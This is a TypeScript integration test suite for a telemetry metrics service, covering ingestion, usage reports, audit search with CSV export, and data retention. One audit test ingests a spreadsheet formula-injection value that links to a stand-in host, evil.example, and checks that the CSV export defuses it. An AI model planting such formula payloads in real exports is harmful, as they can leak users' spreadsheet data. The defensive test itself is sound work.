import { randomUUID } from 'node:crypto';
import { webstreamConfigSchema } from '@webstream/config';
import {
  type AuditSearchResponse,
  errorEnvelopeSchema,
  type TelemetryEvent,
  telemetryIngestRoute,
  type UsageReportRow,
} from '@webstream/contracts';
import { createTestDatabase, type TestDatabase } from '@webstream/db/testing';
import { startTestService, type TestService } from '@webstream/service-kit/testing';
import { expectServedDocument } from '@webstream/testing/contracts';
import { Client } from 'pg';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { MetricsDatabase } from '../src/database/metrics-database';
import { MetricsEngineModule } from '../src/metrics-engine.module';
import { RetentionService } from '../src/retention/retention.service';

const TOKEN = 'test-service-token-0123456789-abcdefghij';
const METRICS_TOKEN = 'm'.repeat(32);
const NODE = 'http://host-a.internal:9005';

describe('the metrics engine on a real PostgreSQL', () => {
  let database: TestDatabase;
  let service: TestService;
  let db: MetricsDatabase;

  beforeAll(async () => {
    database = await createTestDatabase('ws_metrics_engine');
    const config = webstreamConfigSchema.parse({
      logging: { level: 'silent' },
      metrics: { bearerToken: METRICS_TOKEN },
      metricsEngine: {
        databaseUrl: database.url,
        serviceToken: TOKEN,
        retention: { rawSampleDays: 2, hourlyAggregateMonths: 1, activityDays: 3, auditDays: 30 },
      },
    });
    service = await startTestService(MetricsEngineModule.forRoot(config), {
      telemetryRoutes: [telemetryIngestRoute.path],
    });
    db = service.app.get(MetricsDatabase);
  });

  afterAll(async () => {
    await service?.close();
    await database?.drop();
  });

  beforeEach(async () => {
    await db.$executeRawUnsafe(
      'TRUNCATE "IngestBatch", "MetricSample", "SampleHourly", "LatestSample", "ActivityEvent", "AuditEvent", "UsageSession"',
    );
  });

  function post(body: unknown, token: string | null = TOKEN): Promise<Response> {
    return fetch(`${service.url}/api/ingest`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: JSON.stringify(body),
    });
  }

  async function ingest(events: TelemetryEvent[], idempotencyKey = randomUUID()): Promise<unknown> {
    const response = await post({ idempotencyKey, source: 'test', events });
    expect(response.status).toBe(200);
    return response.json();
  }

  async function get<T>(path: string): Promise<T> {
    const response = await fetch(`${service.url}${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });
    expect(response.status, await response.clone().text()).toBe(200);
    return (await response.json()) as T;
  }

  const LOGIN_TRACE = '00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01';

  async function count(table: string): Promise<number> {
    const [row] = await db.$queryRawUnsafe<[{ n: number }]>(`SELECT count(*)::int AS n FROM "${table}"`);
    return row.n;
  }

  const usage = (
    type: 'session-start' | 'session-end',
    sessionId: string,
    at: string,
    extra = {},
  ): TelemetryEvent => ({
    kind: 'usage',
    type,
    at,
    sessionId,
    userId: 'u-ada',
    orgId: 'org-1',
    appId: 'app-word',
    workspaceId: 'ws-office',
    ...extra,
  });

  describe('ingestion', () => {
    it('refuses callers without the service credential', async () => {
      const events = [
        { kind: 'sample', metric: 'node.cpu', value: 1, at: new Date().toISOString(), node: NODE },
      ];
      expect((await post({ idempotencyKey: randomUUID(), source: 'x', events }, null)).status).toBe(401);
      expect((await post({ idempotencyKey: randomUUID(), source: 'x', events }, 'wrong-token')).status).toBe(
        401,
      );
      expect(await count('MetricSample')).toBe(0);
    });

    it('keeps serving when PostgreSQL ends its idle connections (a restart, an administrator)', async () => {
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 1, at: new Date().toISOString(), node: NODE },
      ]);
      const admin = new Client({ connectionString: database.url });
      await admin.connect();
      try {
        const { rowCount } = await admin.query(
          'SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = current_database() AND pid <> pg_backend_pid()',
        );
        expect(rowCount).toBeGreaterThan(0);
      } finally {
        await admin.end();
      }
      // The pools open new connections; the process (this test's own) is still there to answer.
      await vi.waitFor(
        async () =>
          expect(
            await ingest([
              { kind: 'sample', metric: 'node.cpu', value: 2, at: new Date().toISOString(), node: NODE },
            ]),
          ).toEqual({ stored: true, events: 1 }),
        { timeout: 30_000, interval: 200 },
      );
      expect(await count('MetricSample')).toBe(2);
    });

    it('stores each kind of event', async () => {
      const at = new Date().toISOString();
      expect(
        await ingest([
          { kind: 'sample', metric: 'node.cpu', value: 42.5, at, node: NODE },
          { kind: 'sample', metric: 'streamer.fps', value: 30, at, sessionId: 's-1' },
          {
            kind: 'activity',
            type: 'login',
            at,
            userId: 'u-ada',
            username: 'ada',
            orgId: 'org-1',
            traceparent: LOGIN_TRACE,
          },
          {
            kind: 'audit',
            at,
            actorId: 'u-admin',
            action: 'user.update',
            targetType: 'user',
            targetId: 'u-ada',
            before: { displayName: 'Ada' },
            after: { displayName: 'Ada L.' },
          },
          usage('session-start', 's-1', at),
        ]),
      ).toEqual({ stored: true, events: 5 });
      expect(await count('MetricSample')).toBe(2);
      expect(await count('ActivityEvent')).toBe(1);
      expect(await count('UsageSession')).toBe(1);
      const [audit] = await db.$queryRaw<
        [{ before: unknown; after: unknown }]
      >`SELECT before, after FROM "AuditEvent"`;
      expect(audit).toEqual({ before: { displayName: 'Ada' }, after: { displayName: 'Ada L.' } });
      const [login] = await db.$queryRaw<
        [{ traceparent: string | null }]
      >`SELECT traceparent FROM "ActivityEvent"`;
      expect(login.traceparent).toBe(LOGIN_TRACE);
    });

    it('stores a retried batch once', async () => {
      const key = randomUUID();
      const events: TelemetryEvent[] = [
        { kind: 'activity', type: 'launch', at: new Date().toISOString(), userId: 'u' },
      ];
      expect(await ingest(events, key)).toEqual({ stored: true, events: 1 });
      expect(await ingest(events, key)).toEqual({ stored: false, events: 1 });
      expect(await count('ActivityEvent')).toBe(1);
      expect(await count('IngestBatch')).toBe(1);
    });

    it('answers a bad payload with 400 naming the field, and stores nothing of it', async () => {
      const response = await post({
        idempotencyKey: randomUUID(),
        source: 'test',
        events: [
          { kind: 'activity', type: 'login', at: new Date().toISOString() },
          { kind: 'sample', metric: 'node.cpu', value: 'high', at: new Date().toISOString() },
        ],
      });
      expect(response.status).toBe(400);
      const { error } = errorEnvelopeSchema.parse(await response.json());
      expect(error.fields?.map((field) => field.path)).toEqual(['events[1].value']);
      expect(await count('ActivityEvent')).toBe(0);
    });

    it('takes a full batch of 5,000 events in one request', async () => {
      const at = Date.now();
      const events: TelemetryEvent[] = Array.from({ length: 5_000 }, (_, i) => ({
        kind: 'sample',
        metric: 'streamer.latency',
        value: i,
        at: new Date(at - i).toISOString(),
        sessionId: `s-${i % 7}`,
      }));
      expect(await ingest(events)).toEqual({ stored: true, events: 5_000 });
      expect(await count('MetricSample')).toBe(5_000);
      expect(await count('LatestSample')).toBe(7);
    });

    it('keeps the audit log append-only', async () => {
      await ingest([
        {
          kind: 'audit',
          at: new Date().toISOString(),
          actorId: 'a',
          action: 'org.create',
          targetType: 'org',
          targetId: 'o',
          before: null,
          after: {},
        },
      ]);
      await expect(db.$executeRawUnsafe(`UPDATE "AuditEvent" SET "actorId" = 'mallory'`)).rejects.toThrow(
        /append-only/,
      );
    });

    it('reports its own ingestion figures to Prometheus', async () => {
      await ingest([{ kind: 'activity', type: 'logout', at: new Date().toISOString(), userId: 'u' }]);
      const metrics = await (
        await fetch(`${service.url}/metrics`, { headers: { authorization: `Bearer ${METRICS_TOKEN}` } })
      ).text();
      expect(metrics).toMatch(/^metrics_ingest_events_total\{[^}]*kind="activity"[^}]*\} [1-9]/m);
      expect(metrics).toMatch(/^metrics_ingest_batch_events_count\{[^}]*\} [1-9]/m);
      expect(metrics).toMatch(/^metrics_ingest_batches_in_flight\{[^}]*\} 0/m);
      expect(metrics).toMatch(/^metrics_ingest_lag_seconds_count\{[^}]*\} [1-9]/m);
    });
  });

  describe('usage reports', () => {
    it('counts a session from 09:50 to 10:20 as 30 minutes, 10 in the 09:00 hour and 20 in the 10:00 hour', async () => {
      await ingest([
        usage('session-start', 's-1', '2026-03-02T09:50:00Z'),
        usage('session-end', 's-1', '2026-03-02T10:20:00Z'),
      ]);
      const { rows } = await get<{ rows: UsageReportRow[] }>(
        '/api/reports/usage?from=2026-03-02T00:00:00Z&to=2026-03-03T00:00:00Z&period=hour&groupBy=user',
      );
      expect(rows).toEqual([
        { periodStart: '2026-03-02T09:00:00.000Z', key: 'u-ada', minutes: 10, sessions: 1 },
        { periodStart: '2026-03-02T10:00:00.000Z', key: 'u-ada', minutes: 20, sessions: 1 },
      ]);
      const daily = await get<{ rows: UsageReportRow[] }>(
        '/api/reports/usage?from=2026-03-01T00:00:00Z&to=2026-04-01T00:00:00Z&period=day&groupBy=app',
      );
      expect(daily.rows).toEqual([
        { periodStart: '2026-03-02T00:00:00.000Z', key: 'app-word', minutes: 30, sessions: 1 },
      ]);
    });

    it('meters by week and month per organization, workspace and user, whatever order start and end arrive in', async () => {
      await ingest([usage('session-end', 's-2', '2026-03-31T23:30:00Z')]);
      await ingest([
        usage('session-start', 's-2', '2026-03-31T23:00:00Z'),
        usage('session-start', 's-3', '2026-03-10T08:00:00Z', { userId: 'u-bob', workspaceId: 'ws-dev' }),
        usage('session-end', 's-3', '2026-03-10T10:00:00Z', { userId: 'u-bob', workspaceId: 'ws-dev' }),
      ]);
      const monthly = await get<{ rows: UsageReportRow[] }>(
        '/api/reports/usage?from=2026-01-01T00:00:00Z&to=2026-06-01T00:00:00Z&period=month&groupBy=org',
      );
      expect(monthly.rows).toEqual([
        { periodStart: '2026-03-01T00:00:00.000Z', key: 'org-1', minutes: 150, sessions: 2 },
      ]);
      const weekly = await get<{ rows: UsageReportRow[] }>(
        '/api/reports/usage?from=2026-03-01T00:00:00Z&to=2026-04-05T00:00:00Z&period=week&groupBy=workspace',
      );
      expect(weekly.rows).toEqual([
        { periodStart: '2026-03-09T00:00:00.000Z', key: 'ws-dev', minutes: 120, sessions: 1 },
        { periodStart: '2026-03-30T00:00:00.000Z', key: 'ws-office', minutes: 30, sessions: 1 },
      ]);
    });

    it('ranks top users and applications, and exports CSV', async () => {
      await ingest([
        usage('session-start', 'a', '2026-03-02T08:00:00Z'),
        usage('session-end', 'a', '2026-03-02T09:00:00Z'),
        usage('session-start', 'b', '2026-03-02T08:00:00Z', { userId: 'u-bob', appId: 'app-code' }),
        usage('session-end', 'b', '2026-03-02T11:00:00Z', { userId: 'u-bob', appId: 'app-code' }),
      ]);
      const range = 'from=2026-03-02T00:00:00Z&to=2026-03-03T00:00:00Z';
      expect((await get<{ rows: unknown[] }>(`/api/reports/top?${range}&dimension=user`)).rows).toEqual([
        { key: 'u-bob', minutes: 180, sessions: 1 },
        { key: 'u-ada', minutes: 60, sessions: 1 },
      ]);
      expect(
        (await get<{ rows: unknown[] }>(`/api/reports/top?${range}&dimension=app&limit=1`)).rows,
      ).toEqual([{ key: 'app-code', minutes: 180, sessions: 1 }]);
      const csv = await fetch(`${service.url}/api/reports/top?${range}&dimension=user&format=csv`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(await csv.text()).toBe('key,minutes,sessions\nu-bob,180,1\nu-ada,60,1\n');
    });

    it('finds the peak of concurrent sessions in each period', async () => {
      await ingest([
        usage('session-start', 'p1', '2026-03-02T09:00:00Z'),
        usage('session-end', 'p1', '2026-03-02T09:40:00Z'),
        usage('session-start', 'p2', '2026-03-02T09:10:00Z'),
        usage('session-end', 'p2', '2026-03-02T11:30:00Z'),
        usage('session-start', 'p3', '2026-03-02T09:20:00Z'),
        usage('session-end', 'p3', '2026-03-02T09:30:00Z'),
        // starts exactly when p1 ends: back to back, not overlapping
        usage('session-start', 'p4', '2026-03-02T09:40:00Z'),
        usage('session-end', 'p4', '2026-03-02T09:50:00Z'),
      ]);
      const { rows } = await get<{ rows: unknown[] }>(
        '/api/reports/concurrency?from=2026-03-02T08:00:00Z&to=2026-03-02T12:00:00Z&period=hour',
      );
      expect(rows).toEqual([
        { periodStart: '2026-03-02T08:00:00.000Z', peak: 0 },
        { periodStart: '2026-03-02T09:00:00.000Z', peak: 3 },
        { periodStart: '2026-03-02T10:00:00.000Z', peak: 1 },
        { periodStart: '2026-03-02T11:00:00.000Z', peak: 1 },
      ]);
    });

    it('does not count a session in the period after it ends exactly on the boundary', async () => {
      await ingest([
        usage('session-start', 'b1', '2026-03-02T09:00:00Z'),
        usage('session-end', 'b1', '2026-03-02T10:00:00Z'),
      ]);
      const { rows } = await get<{ rows: unknown[] }>(
        '/api/reports/concurrency?from=2026-03-02T08:00:00Z&to=2026-03-02T12:00:00Z&period=hour',
      );
      expect(rows).toEqual([
        { periodStart: '2026-03-02T08:00:00.000Z', peak: 0 },
        { periodStart: '2026-03-02T09:00:00.000Z', peak: 1 },
        { periodStart: '2026-03-02T10:00:00.000Z', peak: 0 },
        { periodStart: '2026-03-02T11:00:00.000Z', peak: 0 },
      ]);
    });

    it('never keeps an end before its start when clocks disagree', async () => {
      await ingest([usage('session-start', 'c1', '2026-03-02T10:05:00Z')]);
      await ingest([usage('session-end', 'c1', '2026-03-02T10:03:00Z')]);
      const [row] = await db.$queryRaw<[{ startedAt: Date; endedAt: Date }]>`
        SELECT "startedAt", "endedAt" FROM "UsageSession" WHERE "sessionId" = 'c1'`;
      expect(row.endedAt.getTime()).toBeGreaterThanOrEqual(row.startedAt.getTime());
      const { rows } = await get<{ rows: UsageReportRow[] }>(
        '/api/reports/usage?from=2026-03-02T00:00:00Z&to=2026-03-03T00:00:00Z&period=day&groupBy=user',
      );
      expect(rows.every((r) => r.minutes >= 0)).toBe(true);
    });

    it('refuses a range that ends before it starts, naming the field', async () => {
      const response = await fetch(
        `${service.url}/api/reports/usage?from=2026-03-02T00:00:00Z&to=2026-03-01T00:00:00Z`,
        {
          headers: { authorization: `Bearer ${TOKEN}` },
        },
      );
      expect(response.status).toBe(400);
      expect(errorEnvelopeSchema.parse(await response.json()).error.fields?.[0]?.path).toBe('query.to');
    });
  });

  describe('operations', () => {
    it('lists live nodes with their load, active sessions with streamer figures, and licence usage', async () => {
      const now = new Date().toISOString();
      const old = new Date(Date.now() - 5 * 60_000).toISOString();
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 12, at: old, node: NODE },
        { kind: 'sample', metric: 'node.cpu', value: 37, at: now, node: NODE },
        { kind: 'sample', metric: 'node.memory', value: 55, at: now, node: NODE },
        { kind: 'sample', metric: 'node.sessions', value: 1, at: now, node: NODE },
        { kind: 'sample', metric: 'node.cpu', value: 99, at: old, node: 'http://gone.internal:9005' },
        { kind: 'sample', metric: 'streamer.fps', value: 29.5, at: now, sessionId: 'live-1' },
        { kind: 'sample', metric: 'streamer.latency', value: 31, at: now, sessionId: 'live-1' },
        { kind: 'sample', metric: 'licence.active', value: 1, at: now },
        { kind: 'sample', metric: 'licence.capacity', value: 25, at: now },
        usage('session-start', 'live-1', now, { node: NODE }),
        usage('session-start', 'done-1', old),
        usage('session-end', 'done-1', now),
      ]);
      expect(await get('/api/operations/nodes')).toEqual({
        nodes: [{ node: NODE, cpuUsage: 37, memoryUsage: 55, activeSessions: 1, lastSeenAt: now }],
      });
      expect(await get('/api/operations/sessions')).toEqual({
        sessions: [
          {
            sessionId: 'live-1',
            userId: 'u-ada',
            orgId: 'org-1',
            appId: 'app-word',
            workspaceId: 'ws-office',
            node: NODE,
            startedAt: now,
            fps: 29.5,
            bandwidth: null,
            latency: 31,
          },
        ],
      });
      expect(await get('/api/operations/licence')).toEqual({
        activeStreamers: 1,
        licensedSessions: 25,
        reportedAt: now,
      });
    });
  });

  describe('audit search', () => {
    it('filters, pages newest first with a cursor, and exports CSV', async () => {
      const events: TelemetryEvent[] = Array.from({ length: 5 }, (_, i) => ({
        kind: 'audit',
        at: new Date(Date.UTC(2026, 2, 2, 10, i)).toISOString(),
        actorId: i % 2 ? 'u-admin' : 'u-ops',
        orgId: 'org-1',
        action: 'workspace.update',
        targetType: 'workspace',
        targetId: `ws-${i}`,
        before: { n: i },
        after: { n: i + 1 },
        // The change made in a traced request keeps its trace.
        ...(i === 3 ? { traceparent: `00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b${i}-01` } : {}),
      }));
      await ingest(events);
      const first = await get<AuditSearchResponse>('/api/audit?targetType=workspace&limit=2');
      expect(first.items.map((item) => item.targetId)).toEqual(['ws-4', 'ws-3']);
      const second = await get<AuditSearchResponse>(
        `/api/audit?targetType=workspace&limit=2&cursor=${first.nextCursor}`,
      );
      expect(second.items.map((item) => item.targetId)).toEqual(['ws-2', 'ws-1']);
      expect(first.items.map((item) => item.traceparent)).toEqual([
        null,
        '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b3-01',
      ]);
      const third = await get<AuditSearchResponse>(
        `/api/audit?targetType=workspace&limit=2&cursor=${second.nextCursor}`,
      );
      expect(third.items.map((item) => item.targetId)).toEqual(['ws-0']);
      expect(third.nextCursor).toBeNull();
      expect(
        (await get<AuditSearchResponse>('/api/audit?actorId=u-admin')).items.map((item) => item.targetId),
      ).toEqual(['ws-3', 'ws-1']);
      const csv = await fetch(`${service.url}/api/audit?actorId=u-admin&format=csv`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      const lines = (await csv.text()).trim().split('\n');
      expect(lines[0]).toBe(
        'id,at,actorId,actorName,orgId,action,targetType,targetId,before,after,traceparent',
      );
      expect(lines).toHaveLength(3);
      expect(lines[1]).toContain('"{""n"":3}"');
      expect(lines[1]).toMatch(/,00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b3-01$/);
      await ingest([
        {
          kind: 'audit',
          at: new Date().toISOString(),
          actorId: 'u-evil',
          actorName: '=HYPERLINK("https://evil.example/?"&A2,"x")',
          action: 'user.update',
          targetType: 'user',
          targetId: 'u-evil',
          before: null,
          after: null,
        },
      ]);
      const formula = await fetch(`${service.url}/api/audit?actorId=u-evil&format=csv`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(await formula.text()).toContain(`"'=HYPERLINK(`);
      const bad = await fetch(`${service.url}/api/audit?cursor=not-a-cursor`, {
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(bad.status).toBe(400);
      expect(await bad.json()).toMatchObject({
        error: { fields: [{ path: 'query.cursor', message: 'is not a cursor this API returned' }] },
      });
    });
  });

  describe('retention', () => {
    it('downsamples old raw samples into hourly aggregates before deleting them, and trims each log', async () => {
      const now = new Date('2026-03-10T12:30:00Z');
      const daysAgo = (days: number, minutes = 0) =>
        new Date(now.getTime() - days * 86_400_000 + minutes * 60_000).toISOString();
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 10, at: daysAgo(5, 0), node: NODE },
        { kind: 'sample', metric: 'node.cpu', value: 30, at: daysAgo(5, 10), node: NODE },
        { kind: 'sample', metric: 'node.cpu', value: 50, at: daysAgo(1), node: NODE },
        { kind: 'activity', type: 'login', at: daysAgo(4), userId: 'old' },
        { kind: 'activity', type: 'login', at: daysAgo(1), userId: 'new' },
        {
          kind: 'audit',
          at: daysAgo(40),
          actorId: 'a',
          action: 'org.create',
          targetType: 'org',
          targetId: 'o1',
          before: null,
          after: {},
        },
        {
          kind: 'audit',
          at: daysAgo(10),
          actorId: 'a',
          action: 'org.update',
          targetType: 'org',
          targetId: 'o1',
          before: {},
          after: {},
        },
      ]);
      const outcome = await service.app.get(RetentionService).run(now);
      expect(outcome).toMatchObject({ deletedSamples: 2, deletedActivity: 1, deletedAudit: 1 });
      // both hours in the recent pass, then the hour about to be deleted once more from all its samples
      expect(outcome?.aggregatedHours).toBe(3);
      expect(await count('MetricSample')).toBe(1);
      const hourly = await db.$queryRaw<{ count: number; sum: number; min: number; max: number }[]>`
        SELECT count, sum, min, max FROM "SampleHourly" ORDER BY hour`;
      expect(hourly).toEqual([
        { count: 2, sum: 40, min: 10, max: 30 },
        { count: 1, sum: 50, min: 50, max: 50 },
      ]);
      expect(await db.$queryRaw`SELECT "userId" FROM "ActivityEvent"`).toEqual([{ userId: 'new' }]);
      expect(await count('AuditEvent')).toBe(1);
      const again = await service.app.get(RetentionService).run(now);
      expect(again).toMatchObject({ deletedSamples: 0, deletedActivity: 0, deletedAudit: 0 });
      expect(await db.$queryRaw`SELECT count, sum FROM "SampleHourly" ORDER BY hour`).toEqual([
        { count: 2, sum: 40 },
        { count: 1, sum: 50 },
      ]);
    });

    it('ends running sessions whose streamer or host has gone silent, at their last sign of life', async () => {
      const now = new Date();
      const ago = (minutes: number) => new Date(now.getTime() - minutes * 60_000).toISOString();
      const LOST = 'http://lost.internal:9005';
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 5, at: ago(60), node: LOST },
        { kind: 'sample', metric: 'node.cpu', value: 5, at: ago(0), node: NODE },
        { kind: 'sample', metric: 'streamer.fps', value: 30, at: ago(30), sessionId: 'streamer-died' },
        usage('session-start', 'host-lost', ago(90), { node: LOST }),
        usage('session-start', 'streamer-died', ago(45), { node: NODE }),
        usage('session-start', 'alive', ago(45), { node: NODE }),
        usage('session-start', 'no-figures', ago(45)),
      ]);
      const outcome = await service.app.get(RetentionService).run(now);
      expect(outcome?.endedSilentSessions).toBe(2);
      const rows = await db.$queryRaw<{ sessionId: string; endedAt: Date | null }[]>`
        SELECT "sessionId", "endedAt" FROM "UsageSession" ORDER BY "sessionId"`;
      expect(Object.fromEntries(rows.map((r) => [r.sessionId, r.endedAt?.toISOString() ?? null]))).toEqual({
        alive: null,
        'host-lost': ago(60),
        'no-figures': null,
        'streamer-died': ago(30),
      });
    });

    it('runs on demand for an operator, with the service credential', async () => {
      const refused = await fetch(`${service.url}/api/retention/run`, { method: 'POST' });
      expect(refused.status).toBe(401);
      const manual = await fetch(`${service.url}/api/retention/run`, {
        method: 'POST',
        headers: { authorization: `Bearer ${TOKEN}` },
      });
      expect(manual.status).toBe(200);
      expect(await manual.json()).toMatchObject({ deletedSamples: expect.any(Number) });
    });

    it('summarises samples that arrived late before their hour is deleted', async () => {
      const now = new Date('2026-03-10T12:30:00Z');
      const service_ = service.app.get(RetentionService);
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 10, at: '2026-03-10T11:10:00Z', node: NODE },
      ]);
      await service_.run(now);
      // hours late: the recent-hours pass has moved on, but the hour is still kept raw
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 70, at: '2026-03-07T15:20:00Z', node: NODE },
      ]);
      await service_.run(now);
      await service_.run(new Date('2026-03-10T16:30:00Z'));
      expect(
        await db.$queryRaw`SELECT count, sum FROM "SampleHourly" WHERE hour = '2026-03-07T15:00:00Z'`,
      ).toEqual([{ count: 1, sum: 70 }]);
      expect(
        await db.$queryRaw`SELECT count(*)::int AS n FROM "MetricSample" WHERE at < '2026-03-08T16:00:00Z'`,
      ).toEqual([{ n: 0 }]);
    });

    it('answers a metric over time from raw samples and, beyond raw retention, from hourly aggregates', async () => {
      const now = new Date();
      const hour = (hoursAgo: number, minute = 5) => {
        const d = new Date(now.getTime() - hoursAgo * 3_600_000);
        d.setUTCMinutes(minute, 0, 0);
        return d.toISOString();
      };
      await db.$executeRaw`INSERT INTO "SampleHourly" VALUES ('node.cpu', ${NODE}, date_trunc('hour', ${hour(24 * 5)}::timestamptz, 'UTC'), 4, 100, 10, 40)`;
      await ingest([
        { kind: 'sample', metric: 'node.cpu', value: 20, at: hour(3), node: NODE },
        { kind: 'sample', metric: 'node.cpu', value: 40, at: hour(3, 30), node: NODE },
        { kind: 'sample', metric: 'node.memory', value: 99, at: hour(3), node: NODE },
      ]);
      const from = new Date(now.getTime() - 7 * 86_400_000).toISOString();
      const { rows } = await get<{ rows: { avg: number; min: number; max: number; count: number }[] }>(
        `/api/reports/metrics?metric=node.cpu&bucket=hour&from=${from}&to=${now.toISOString()}&node=${encodeURIComponent(NODE)}`,
      );
      expect(rows.map(({ avg, min, max, count: n }) => ({ avg, min, max, count: n }))).toEqual([
        { avg: 25, min: 10, max: 40, count: 4 },
        { avg: 30, min: 20, max: 40, count: 2 },
      ]);
    });
  });
  it('describes every route it serves and nothing else in its OpenAPI document, which lints clean and is the committed one', async () => {
    await expectServedDocument(service.app, service.url, 'metrics-engine');
  });
});
